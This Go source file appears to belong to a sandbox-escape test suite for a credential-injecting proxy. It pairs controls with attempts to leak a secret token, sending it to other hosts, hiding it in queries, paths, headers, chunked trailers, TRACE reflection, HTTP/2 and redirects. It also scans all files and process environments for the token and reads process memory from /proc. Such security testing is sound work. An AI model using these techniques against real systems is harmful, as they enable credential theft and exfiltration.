package escape

import (
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What stands for the host's secrets inside, and where they may go.
const (
	vaultName  = "vault.test"  // gets the one of the runtime phase, by TLS
	setupVault = "setupv.test" // gets the one of the install phase, by TLS
	badVault   = "badv.test"   // would get one, if its certificate could be verified
	vaultToken = "VAULT_TOKEN" // variable with the sentinel
	setupToken = "SETUP_TOKEN" // likewise, of install hooks
	badToken   = "BAD_TOKEN"   // likewise
	tryHeader  = "X-Attempt"   // whose request it is; see [outside.proof]
	vaultKit   = `{"type":"com.docker.sandbox/credential@1","config":{"service":"vault","phase":["runtime"],"apiKey":{"name":"VAULT_TOKEN","proxyManaged":true,"inject":[{"domain":"vault.test","header":"Authorization","format":"Bearer %s"}]}}},
 {"type":"com.docker.sandbox/credential@1","config":{"service":"badv","phase":["runtime"],"apiKey":{"name":"BAD_TOKEN","proxyManaged":true,"inject":[{"domain":"badv.test"}]}}},
 {"type":"com.docker.sandbox/credential@1","config":{"service":"setupv","phase":["install"],"apiKey":{"name":"SETUP_TOKEN","proxyManaged":true,"inject":[{"domain":"setupv.test"}]}}},`
)

// proof looks for the host's secret in a request that has arrived. In the one
// place that it may be in, it is what a control shows; anywhere else it got out.
func (o *outside) proof(r *http.Request, body string) {
	mark := strings.ReplaceAll(r.Header.Get(tryHeader), "~", "-")
	if mark == "" {
		return
	}
	name, _, _ := strings.Cut(r.Host, ":")
	if (name == authName || name == failName) && r.URL.Path == "/token" {
		return // the boundary's own request
	}
	own := r.Header.Get("Authorization")
	if user, password, ok := r.BasicAuth(); ok {
		own = user + ":" + password
	}
	rest := r.Header.Clone()
	rest.Del("Authorization")
	elsewhere := strings.Contains(r.RequestURI+fmt.Sprint(rest, r.Trailer)+body, o.secret) || len(r.Header["Authorization"]) > 1
	may := r.TLS != nil && r.TLS.ServerName == name && (name == vaultName || name == setupVault && strings.HasPrefix(mark, "control-") ||
		name == resName || name == regName && strings.HasPrefix(r.URL.Path, "/v2/") || name == tokName && r.URL.Path == "/token")
	where := fmt.Sprintf("with the host's secret in a request for %s, with TLS %v", r.Host, r.TLS != nil)
	switch got := strings.Contains(own, o.secret); {
	case elsewhere, got && !may:
		o.record(where, []byte(strings.Replace(mark, "control-", "attack-", 1)))
	case got && strings.HasPrefix(mark, "control-"):
		o.record(where, []byte(mark))
	}
}

// tag is a header that says whose request it is, without the mark in it.
func tag(w *world) string { return tryHeader + ": " + strings.ReplaceAll(w.Mark, "-", "~") }

func bearer(variable string) string { return "Authorization: Bearer " + os.Getenv(variable) }

// present asks for path at host by TLS with more headers.
func present(w *world, at, sni, host, path string, more ...string) error {
	return sayTLS(at, sni, lines(append([]string{"GET " + path + " HTTP/1.1", "Host: " + host, tag(w)}, more...)...))
}

// secrets are attempts on what the host keeps for the sandbox. What stands for a
// secret inside may be used at one host, in one header, by TLS.
func secrets() []attempt {
	honest := func(w *world) error { return present(w, vaultName, vaultName, vaultName, "/ok/x", bearer(vaultToken)) }
	trick := func(name, tries string, attack func(w *world) error) attempt {
		return attempt{name: "secret-" + name, tries: tries, in: plain, at: plain, arrives: true, control: honest, attack: attack}
	}
	sentinel := func() string { return os.Getenv(vaultToken) }
	trick2 := func(name, tries string, attack func(w *world) error) attempt {
		a := trick(name, tries, attack)
		a.control = func(w *world) error {
			return http2Say(vaultName, "", http2Request("GET", vaultName, "/ok/x", field{"authorization", "Bearer " + sentinel()}, field{strings.ToLower(tryHeader), strings.ReplaceAll(w.Mark, "-", "~")}))
		}
		return a
	}
	list := []attempt{
		trick("at-another-host", "what stands for the secret, at another allowed host", func(w *world) error {
			return present(w, openName, openName, openName, "/", bearer(vaultToken))
		}),
		trick("at-a-bounded-host", "the same, at one whose requests are looked into", func(w *world) error {
			return present(w, boundName, boundName, boundName, "/ok/x", bearer(vaultToken))
		}),
		trick("without-tls", "the same, at its own host without TLS", func(w *world) error {
			return say(vaultName, 80, lines("GET / HTTP/1.1", "Host: "+vaultName, tag(w), bearer(vaultToken)))
		}),
		trick("in-the-query", "the same, in the query", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/?t="+sentinel())
		}),
		trick("in-the-path", "the same, in the path", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/"+sentinel())
		}),
		trick("in-another-header", "the same, in another header", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/", "X-Token: "+sentinel(), "Cookie: t="+sentinel(), "User-Agent: "+sentinel())
		}),
		trick("in-a-header-twice", "the same, twice", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/", bearer(vaultToken), bearer(vaultToken))
		}),
		trick("in-the-body", "the same, in a body and behind it", func(w *world) error {
			return sayTLS(vaultName, vaultName, lines("POST / HTTP/1.1", "Host: "+vaultName, tag(w), "Transfer-Encoding: chunked", "Trailer: Authorization, X-T")+
				fmt.Sprintf("%x\r\n%s\r\n0\r\nX-T: %s\r\nAuthorization: %s\r\n\r\n", len(sentinel()), sentinel(), sentinel(), sentinel()))
		}),
		trick("by-another-name", "another host's name for the same connection", func(w *world) error {
			return present(w, vaultName, vaultName, openName, "/", bearer(vaultToken))
		}),
		trick("at-another-address", "the host's name on a connection to another", func(w *world) error {
			return present(w, openName, vaultName, vaultName, "/", bearer(vaultToken))
		}),
		trick("at-another-bounded-address", "the same, where requests are looked into", func(w *world) error {
			return present(w, boundName, vaultName, vaultName, "/ok/x", bearer(vaultToken))
		}),
		trick("header-of-another-name", "the host's name in the header alone, where requests are looked into", func(w *world) error {
			return present(w, boundName, boundName, vaultName, "/ok/x", bearer(vaultToken))
		}),
		trick("without-a-server-name", "TLS that names no host", func(w *world) error {
			return present(w, vaultName, "", vaultName, "/", bearer(vaultToken))
		}),
		trick("absolute-form", "a request to a proxy for another host", func(w *world) error {
			return sayTLS(vaultName, vaultName, lines("GET https://"+openName+"/ HTTP/1.1", "Host: "+vaultName, tag(w), bearer(vaultToken)))
		}),
		trick("reflected", "a request that the server sends back with all that was put in", func(w *world) error {
			return shows(w, lines("TRACE / HTTP/1.1", "Host: "+vaultName, tag(w), bearer(vaultToken)))
		}),
		trick("reflected-by-forwards", "the same, with a count of hops", func(w *world) error {
			return shows(w, lines("TRACE / HTTP/1.1", "Host: "+vaultName, "Max-Forwards: 0", tag(w), bearer(vaultToken)))
		}),
		trick("in-an-upgrade", "a tunnel that begins with the secret", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/", bearer(vaultToken), "Connection: Upgrade", "Upgrade: tcp", "X-Again: "+sentinel())
		}),
		trick("at-an-unverified-host", "a host whose certificate nobody has signed", func(w *world) error {
			return present(w, badVault, badVault, badVault, "/", bearer(badToken))
		}),
		trick("redirected", "an answer that sends the client elsewhere with it", func(w *world) error {
			c := http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: insecure()}}
			req, err := http.NewRequest(http.MethodGet, "https://"+vaultName+"/ok/redirect?to=open", nil)
			if err != nil {
				return broken(err)
			}
			req.Header.Set(tryHeader, strings.ReplaceAll(w.Mark, "-", "~"))
			req.Header.Set("X-Token", sentinel())
			c.CheckRedirect = func(r *http.Request, _ []*http.Request) error {
				r.Header.Set("Authorization", "Bearer "+sentinel())
				r.Header.Set(tryHeader, strings.ReplaceAll(w.Mark, "-", "~"))
				return nil
			}
			r, err := c.Do(req)
			if err != nil {
				return err
			}
			return r.Body.Close()
		}),
		trick2("http2-authority", "another authority within HTTP/2", func(w *world) error {
			return http2Say(vaultName, "", http2Request("GET", openName, "/", field{"authorization", "Bearer " + sentinel()}, field{strings.ToLower(tryHeader), strings.ReplaceAll(w.Mark, "-", "~")}))
		}),
		trick2("http2-path", "the path of HTTP/2", func(w *world) error {
			return http2Say(vaultName, "", http2Request("GET", vaultName, "/"+sentinel(), field{"x-t", sentinel()}, field{strings.ToLower(tryHeader), strings.ReplaceAll(w.Mark, "-", "~")}))
		}),
		trick("in-basic-elsewhere", "within Basic authentication at another host", func(w *world) error {
			login := base64.StdEncoding.EncodeToString([]byte("x:" + sentinel()))
			return present(w, openName, openName, openName, "/", "Authorization: Basic "+login)
		}),
		trick("of-another-host", "another credential's sentinel at this host", func(w *world) error {
			return present(w, vaultName, vaultName, vaultName, "/", "X-T: "+os.Getenv(badToken), "Authorization: Bearer "+os.Getenv(badToken))
		}),
		{name: "secret-variable", tries: "the variable itself", in: plain, at: plain,
			attack: func(w *world) error {
				if os.Getenv(vaultToken) == string(w.Secret) {
					return nil
				}
				return fmt.Errorf("%s is %q", vaultToken, os.Getenv(vaultToken))
			},
			control: func(*world) error {
				if os.Getenv(vaultToken) == "" {
					return errors.New("there is none")
				}
				return nil
			}},
		{name: "secret-files", tries: "a file with the secret, anywhere in the sandbox", in: strong, at: strong,
			attack:  func(w *world) error { return anyFile(string(w.Secret)) },
			control: func(*world) error { return anyFile("agent:x:1000") }},
		{name: "secret-processes", tries: "a process whose variables or arguments hold it", in: strong, at: strong,
			attack:  func(w *world) error { return anyProcess(string(w.Secret)) },
			control: func(*world) error { return anyProcess(sentinel()) }},
		{name: "secret-in-the-guest", tries: "the guest's memory, which may be read with every capability", in: strong, at: strong,
			attack:  func(w *world) error { return remembered(1, string(w.Secret)) },
			control: func(*world) error { return remembered(1, "kit-guest") }},
		{name: "secret-store", tries: "the host's store of secrets", in: strong, at: host,
			attack: func(w *world) error { return opened(filepath.Join(w.Home, "secrets/key"), unix.O_RDONLY) }},
	}
	return list
}

func insecure() *tls.Config { return &tls.Config{InsecureSkipVerify: true} }

// shows returns nil when the secret is in the answer to a request.
func shows(w *world, request string) error {
	t, err := secure(vaultName, 443, vaultName)
	if err != nil {
		return broken(err)
	}
	got, err := talk(t, 1, request)
	if strings.Contains(got, string(w.Secret)) {
		return nil
	}
	return fmt.Errorf("%.100q, %v", got, err)
}

func anyFile(text string) error {
	found := errors.New("no file has it")
	err := filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil //nolint:nilerr // what cannot be read has nothing for us
		case path == "/proc" || path == "/sys" || path == "/dev" || d.Name() == attackerName:
			if d.IsDir() {
				return fs.SkipDir
			}
			return nil
		case !d.Type().IsRegular():
			return nil
		}
		if b, err := os.ReadFile(path); err == nil && contains(b, text) {
			found = nil
			return fs.SkipAll
		}
		return nil
	})
	if err != nil {
		return broken(err)
	}
	return found
}

func anyProcess(text string) error {
	for _, f := range []string{"environ", "cmdline"} {
		paths, _ := filepath.Glob("/proc/[0-9]*/" + f)
		for _, p := range paths {
			if b, err := os.ReadFile(p); err == nil && contains(b, text) {
				return nil
			}
		}
	}
	return errors.New("no process has it")
}

// remembered returns nil when a process has text in memory that it can write to,
// or in its program's.
func remembered(pid int, text string) error {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return broken(err)
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return broken(err)
	}
	defer mem.Close()
	read := 0
	for line := range splitLines(maps) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n != 3 || !strings.HasPrefix(mode, "r") || to-from > 256<<20 {
			continue
		}
		b := make([]byte, to-from)
		n, err := mem.ReadAt(b, from)
		if err != nil && !errors.Is(err, io.EOF) && n == 0 {
			continue
		}
		read += n
		if contains(b[:n], text) {
			return nil
		}
	}
	if read == 0 {
		return broken(errors.New("nothing of it can be read"))
	}
	return fmt.Errorf("none of %d bytes", read)
}

// setupSecret is the use of the install phase's credential on a connection that
// is kept, for the process that the install hook leaves.
func setupSecret() (after func(mark string) error, before error) {
	c, err := secure(setupVault, 443, setupVault)
	if err != nil {
		return nil, err
	}
	use := func(mark string) error {
		c.SetDeadline(time.Now().Add(patience))
		_, err := exchange(c, lines("GET /ok/x HTTP/1.1", "Host: "+setupVault, tryHeader+": "+strings.ReplaceAll(mark, "-", "~"), bearer(setupToken)))
		return err
	}
	return use, use("control-phase-secret-x")
}
